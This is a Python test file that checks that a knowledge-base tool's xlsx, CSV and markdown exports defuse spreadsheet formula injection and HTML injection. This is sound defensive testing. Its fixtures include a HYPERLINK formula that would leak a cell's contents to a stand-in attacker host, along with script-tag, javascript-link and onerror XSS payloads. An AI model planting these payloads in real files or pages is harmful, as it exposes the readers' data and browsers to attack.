"""Exports never hand a spreadsheet a formula, and the markdown diff escapes document text
(issue #28, item 4).

A criterion whose text begins with ``=`` (``=HYPERLINK("http://evil.example/?leak="&A1, ...)``)
is stored as text in the xlsx export and written with a leading ``'`` in CSV (OWASP's advice
for cells that begin with =, +, -, @, a tab or a carriage return); the markdown diff escapes
``<script>`` and link brackets as ``kb export --format markdown`` does.
"""

from __future__ import annotations

import csv
import io
import re
from dataclasses import replace

from openpyxl import load_workbook

from kb.surfaces.export import export_csv, export_markdown, export_xlsx
from kb.surfaces.reports import diff_markdown, formula_safe, to_csv

POLICY = "CP.PHAR.359"
FORMULA = '=HYPERLINK("http://evil.example/?leak="&A1, "click")'
SCRIPT = "<script>alert(1)</script> [click](javascript:alert(2)) <img src=x onerror=alert(3)>"


def hostile_answer(loaded_kb, text: str):
    answer = loaded_kb.as_of(POLICY, "2025-12-01")
    criteria = [{**r, "text": text} if r["item_id"] == "I.A.1" else r for r in answer.criteria()]
    return replace(answer, records={**answer.records, "criterion": criteria})


def test_xlsx_stores_a_formula_like_criterion_as_text(loaded_kb):
    book = load_workbook(io.BytesIO(export_xlsx(hostile_answer(loaded_kb, FORMULA))))
    cells = [cell for sheet in book.worksheets for row in sheet.iter_rows() for cell in row]
    assert not [cell.coordinate for cell in cells if cell.data_type == "f"]
    assert [cell.value for cell in book["criteria"]["C"] if cell.value == FORMULA] == [FORMULA]


def test_csv_writes_a_formula_like_criterion_behind_a_quote(loaded_kb):
    rows = list(csv.DictReader(io.StringIO(export_csv(hostile_answer(loaded_kb, FORMULA)))))
    texts = [row["text"] for row in rows if row["table"] == "criterion"]
    assert "'" + FORMULA in texts
    assert not [text for text in texts if text[:1] in ("=", "+", "@")]


def test_which_cells_get_the_quote():
    # the cells OWASP names: =, +, @, tab, carriage return, and a minus sign that begins a formula
    for risky in ("=1+1", "+1+1", "@SUM(A1)", "\t=1", "\r=1", "-A1+1", "-2+3"):
        assert formula_safe(risky) == "'" + risky
    # a list dash followed by a space, a negative number, other text and non-text stay as they are
    for plain in ("- a. Disease is relapsed", "-2", "Age ≥ 18 years", "", "2024-08-01"):
        assert formula_safe(plain) == plain
    assert formula_safe(-2) == -2 and formula_safe(None) is None
    assert to_csv([{"a": "=1", "b": 3}], ["a", "b"]).splitlines() == ["a,b", "'=1,3"]


def test_the_markdown_diff_escapes_document_text_as_the_markdown_export_does(loaded_kb):
    diff = loaded_kb.diff(POLICY, "2024-08-01", "2025-12-01")
    first = diff.changes[0]
    words = [("-", "old text"), ("+", SCRIPT), ("=", " and <b>bold</b>")]
    hostile = replace(first, summary=SCRIPT, words=words, where_after=SCRIPT)
    page = diff_markdown(replace(diff, changes=[hostile, *diff.changes[1:]]), everything=True)
    # no tag but the diff's own <br>, no link: every < and ] from the document is escaped
    assert not re.findall(r"(?<!\\)<(?!br>)", page)
    assert not re.findall(r"(?<!\\)\]\(", page)
    assert "\\<script\\>alert(1)\\</script\\>" in page and "\\[click\\](javascript:alert(2))" in page
    exported = export_markdown(hostile_answer(loaded_kb, SCRIPT))
    assert "\\<script\\>alert(1)\\</script\\> \\[click\\](javascript:alert(2))" in exported
